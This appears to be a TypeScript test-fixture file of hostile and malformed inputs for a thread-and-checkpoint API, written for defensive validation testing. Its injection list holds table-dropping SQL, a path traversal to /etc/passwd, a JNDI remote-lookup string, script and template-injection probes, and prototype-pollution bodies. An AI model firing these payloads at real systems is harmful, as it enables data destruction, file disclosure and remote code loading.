// Inputs an attacker or a careless client sends. Thread ids, prefixes, metadata and search
// queries may legitimately be any Unicode, so these must be stored and matched literally.

/** SQL injection, LIKE wildcards and the module's ESCAPE character, quoting tricks, JSON paths, other injections. */
export const INJECTION_STRINGS: readonly string[] = [
  "' OR '1'='1",
  "' OR 1=1 -- ",
  "\" OR \"\"=\"",
  "'; DROP TABLE cp_threads; --",
  "'); DELETE FROM cp_checkpoints; --",
  "1' UNION SELECT thread_id, state FROM cp_checkpoints -- ",
  "x' AND SLEEP(5) AND 'x'='x",
  "` OR 1=1 #",
  "\\'; TRUNCATE cp_threads; -- ",
  "admin'/*",
  "*/ OR /*",
  "'||(SELECT version())||'",
  "0x27204f5220313d31",
  "CHAR(39,32,79,82,32,49,61,49)",
  "%",
  "_",
  "%%",
  "!",
  "!%",
  "\\",
  "\\%",
  "a%' OR thread_id LIKE '%",
  "[a-z]*",
  "ʼ OR ʼ1ʼ=ʼ1",
  "＇ OR ＇1＇=＇1",
  "\u0000' OR 1=1 -- ",
  "\u001a",
  "$.title",
  "$**.messages",
  "JSON_EXTRACT(metadata, '$')",
  "; SHUTDOWN; --",
  "../../etc/passwd",
  "${jndi:ldap://example.invalid/x}",
  "<script>alert(1)</script>",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "null",
];

/** Control characters and unusual but valid Unicode. */
export const CONTROL_STRINGS: readonly string[] = [
  "\u0000",
  "a\u0000b",
  "\t",
  "line\nbreak",
  "\r\n",
  "\u001b[31mred\u001b[0m",
  "\u007f",
  "\u0085",
  "\u2028\u2029",
  "\u200b",
  "\ufeff",
  "  spaces around  ",
  "e\u0301",
  "🧵",
  "\u{10ffff}",
];

/** Not valid Unicode: lone and reversed surrogates (no UTF-8 store can keep them). */
export const INVALID_UTF16: readonly string[] = ["\ud800", "\udfff", "a\ud800b", "\udc00\ud800", "🧵".slice(0, 1)];

/** Path segments that are not valid percent-encoded UTF-8. */
export const BAD_PATH_SEGMENTS: readonly string[] = ["%ED%A0%80", "%FF", "%C0%AF", "%E0%80%AF", "%", "%zz", "%F4%90%80%80"];

/** Request bodies that are not what the API takes, as [label, body, content type, expected status]. */
export const BAD_BODIES: readonly (readonly [string, string | Buffer, string | undefined, number])[] = [
  ["unterminated JSON", '{"content": "a"', "application/json", 400],
  ["single-quoted JSON", "{'content': 'a'}", "application/json", 400],
  ["a trailing comma", '{"content": "a",}', "application/json", 400],
  ["a NUL byte", "\u0000", "application/json", 400],
  ["an escaped lone surrogate", '{"content": "\\ud800"}', "application/json", 400],
  ["a bad escape", '{"content": "\\x41"}', "application/json", 400],
  ["nesting 20,000 deep", `${"[".repeat(20_000)}${"]".repeat(20_000)}`, "application/json", 400],
  ["a number too large", '{"content": 1e999999}', "application/json", 400],
  ["a __proto__ key", '{"__proto__": {"polluted": true}, "content": "x"}', "application/json", 400],
  ["a constructor key", '{"constructor": {"prototype": {"polluted": true}}, "content": "x"}', "application/json", 400],
  ["content a number", '{"content": 42}', "application/json", 400],
  ["content null", '{"content": null}', "application/json", 400],
  ["content an array", '{"content": ["a"]}', "application/json", 400],
  ["content an operator object", '{"content": {"$gt": ""}}', "application/json", 400],
  ["content blank", '{"content": " \\t\\n "}', "application/json", 400],
  ["an extra field", '{"content": "x", "role": "system"}', "application/json", 400],
  ["a JSON string", '"content"', "application/json", 400],
  ["JSON null", "null", "application/json", 400],
  ["a JSON array", "[]", "application/json", 400],
  // Not JSON by its content type: 415, saying which type is expected (issue 13).
  ["no content type", '{"content": "x"}', undefined, 415],
  ["text/plain", "content=x", "text/plain", 415],
  ["a form", "content=x", "application/x-www-form-urlencoded", 415],
  ["UTF-16 charset", '{"content": "x"}', "application/json; charset=utf-16", 400],
  ["Latin-1 charset", '{"content": "x"}', "application/json; charset=iso-8859-1", 415],
  ["65 kB (over BODY_LIMIT)", JSON.stringify({ content: "x".repeat(65 * 1024) }), "application/json", 413],
  ["8 MB", JSON.stringify({ content: "x".repeat(8 * 2 ** 20) }), "application/json", 413],
];

/** `POST /threads/:id/fork` bodies with a wrong `to`. */
export const BAD_FORK_BODIES: readonly unknown[] = [{}, { to: 42 }, { to: null }, { to: ["a"] }, { to: {} }, { to: "" }, { to: "x".repeat(239) }, { to: "ok", extra: 1 }];

/** Query strings `GET /threads` refuses. */
export const BAD_QUERIES: readonly string[] = [
  "limit=0",
  "limit=101",
  "limit=-1",
  "limit=1.5",
  "limit=abc",
  "limit=1e3",
  "limit=1&limit=2",
  "prefix=a&prefix=b",
  `prefix=${"x".repeat(239)}`,
];
